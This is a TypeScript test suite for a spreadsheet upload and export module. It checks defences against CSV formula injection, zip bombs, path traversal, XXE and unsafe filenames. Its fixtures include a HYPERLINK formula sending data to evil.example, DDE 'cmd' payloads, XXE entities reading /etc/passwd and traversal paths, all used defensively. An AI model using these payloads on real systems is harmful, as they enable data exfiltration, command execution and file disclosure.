import { mkdtemp, readdir, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { describe, expect, test } from 'vitest'
import { plainName } from '~/api/upload.server'
import { openFiles } from '~/infra/files.server'
import { readSheet, SheetError } from '~/infra/sheet.server'
import { csvLines, writeCsv, writeXlsx } from '~/infra/sheet-write.server'
import { zipOf } from '../sheet/zip'
import { entries } from '../support/zip'

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u3000＝1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "=cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  '%0A=1+1',
]
const columns = [{ title: '=名称' }, { title: '数' }]

describe('INJ-6 a text that looks like a formula stays a text', () => {
  test.each(formulas)('%j in a text file', (text) => {
    const [, line = ''] = Buffer.from(writeCsv(columns, [[text, -3]]))
      .toString()
      .split('\r\n')
    const cell = line.replace(/^"/, '')
    const begins = cell.replace(/^\s+/, '')[0] ?? ''
    expect('=+-@＝＋－＠\t\r\n\0').not.toContain(begins)
    expect(line.endsWith(',-3')).toBe(true) // a number is a number
  })

  test('in a workbook: typed as text, no formula in it, read back as it was', async () => {
    const bytes = await writeXlsx([{ name: '表', title: '=标题', columns, rows: formulas.map((text) => [text, 1]) }])
    const parts = await entries(Buffer.from(bytes))
    for (const [name, content] of parts) if (/sheet\d+\.xml$/.test(name)) expect(content).not.toMatch(/<(\w+:)?f[\s>]/)
    const { rows } = await readSheet({ bytes, name: 'x.xlsx' })
    const written = formulas.map((text) => text.replaceAll('\0', '').trim())
    expect(rows.slice(2).map((row) => String(row.cells[0]).trim())).toEqual(written)
  })

  test('what no file can hold is left out; a text that looks like an escaped character stays what it is', async () => {
    expect(csvLines([['a\u0000b\u0007\u001b[31m\ud800c']])).toBe('ab[31mc\r\n')
    const bytes = await writeXlsx([{ name: '表', columns: [{ title: 'a' }], rows: [['_x003D_1+1'], ['a\u0001\ufffe\udc00b'], ['_x']] }])
    const { rows } = await readSheet({ bytes, name: 'x.xlsx' })
    expect(rows.slice(1).map((row) => row.cells[0])).toEqual(['_x003D_1+1', 'ab', '_x'])
  })
})

async function refusal(bytes: Uint8Array, name = '台账.xlsx'): Promise<string> {
  return readSheet({ bytes, name }).then(
    () => 'read',
    (error: unknown) => (error instanceof SheetError ? error.code : String(error)),
  )
}

describe('FILE-1 an archive is judged by its directory, before anything of it is inflated', () => {
  const garbage = Buffer.alloc(1_000, 0xff) // no stream of deflate begins like this
  const entry = { name: 'xl/workbook.xml', data: garbage, packed: garbage }

  test('a bomb whose content cannot even be inflated is refused for its size', async () => {
    expect(await refusal(zipOf([{ ...entry, declared: 300 * 1024 * 1024 }]))).toBe('file.inflates')
    expect(await refusal(zipOf([{ ...entry, declared: 1_000 }]))).toBe('file.truncated') // this one was opened
  })

  test('too many parts, and many that are large together', async () => {
    const many = (count: number, declared: number) =>
      zipOf(Array.from({ length: count }, (_, i) => ({ ...entry, name: `xl/p${i}.xml`, declared })))
    expect(await refusal(many(201, 10))).toBe('file.entries')
    expect(await refusal(many(200, 2 * 1024 * 1024))).toBe('file.inflates')
  })

  test('parts named to climb out of the archive are never written anywhere', async () => {
    const workbook = { name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') }
    expect(await refusal(zipOf([workbook, { name: '../../../etc/cron.d/x', data: Buffer.from('x') }]))).toBe('file.truncated')
    expect(await refusal(zipOf([workbook, { name: '/etc/passwd', data: Buffer.from('x') }]))).toBe('file.truncated')
  })
})

describe('FILE-2 the content says what a file is, not its name', () => {
  test.each([
    ['a page', Buffer.from('<!DOCTYPE html><script>alert(1)</script>'), 'file.not-spreadsheet'],
    ['a picture', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'file.not-spreadsheet'],
    ['a program', Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(100)]), 'file.not-spreadsheet'],
    ['a letter', zipOf([{ name: 'word/document.xml', data: Buffer.from('<a/>') }]), 'file.not-spreadsheet'],
    [
      'XML with an entity of the outside',
      Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
      'file.not-spreadsheet',
    ],
  ])('%s under the name of a workbook', async (_what, bytes, code) => {
    expect(await refusal(bytes)).toBe(code)
    expect(await refusal(bytes, 'x.csv')).toBe(code)
  })

  test('an entity in a workbook is not followed', async () => {
    const doctype = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    const bytes = zipOf([
      {
        name: 'xl/workbook.xml',
        data: Buffer.from(`${doctype}<workbook xmlns:r="r"><sheets><sheet name="&x;" r:id="a"/></sheets></workbook>`),
      },
      {
        name: 'xl/_rels/workbook.xml.rels',
        data: Buffer.from('<Relationships><Relationship Id="a" Target="worksheets/sheet1.xml"/></Relationships>'),
      },
      {
        name: 'xl/worksheets/sheet1.xml',
        data: Buffer.from(
          `${doctype}<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row></sheetData></worksheet>`,
        ),
      },
    ])
    const said = await readSheet({ bytes, name: 'x.xlsx' }).then(JSON.stringify, String)
    expect(said).not.toContain((await import('node:os')).hostname())
  })
})

const climbing = [
  '../../etc/passwd',
  '..\\..\\windows\\system32\\config',
  '/etc/passwd',
  'C:\\x\\台账.xlsx',
  '....//....//x',
  '%2e%2e%2fx',
  'x\0.xlsx',
  '台账\u202exslx.exe',
  'a\r\nSet-Cookie: b',
  '"; filename="x',
  'con',
  '.',
  '..',
  '',
  'x'.repeat(5_000),
]

describe('FILE-3 a name never leads anywhere', () => {
  test.each(climbing)('%j as the name of an upload is for reading only', (name) => {
    const plain = plainName(name)
    expect(plain).not.toMatch(/[/\\\p{Cc}\p{Cf}"<>:|?*]/u)
    expect(plain).not.toMatch(/^\.*$/)
    expect(plain.length).toBeGreaterThan(0)
    expect(plain.length).toBeLessThanOrEqual(120)
  })

  test('what is kept is named by its content; what is no such name is not looked for', async () => {
    const folder = await mkdtemp(path.join(tmpdir(), 'zb-files-'))
    const files = openFiles(path.join(folder, 'files'))
    const hash = await files.put(Buffer.from('x'))
    expect(await readdir(path.join(folder, 'files'), { recursive: true })).toEqual([hash.slice(0, 2), path.join(hash.slice(0, 2), hash)])
    for (const name of [...climbing, hash.toUpperCase(), `${hash}/..`, `../files/${hash}`, ` ${hash}`, `${hash}\n`]) {
      await expect(async () => files.has(name)).rejects.toThrow('not a content hash')
      await expect(async () => files.get(name)).rejects.toThrow('not a content hash')
    }
    await rm(folder, { recursive: true })
  })
})
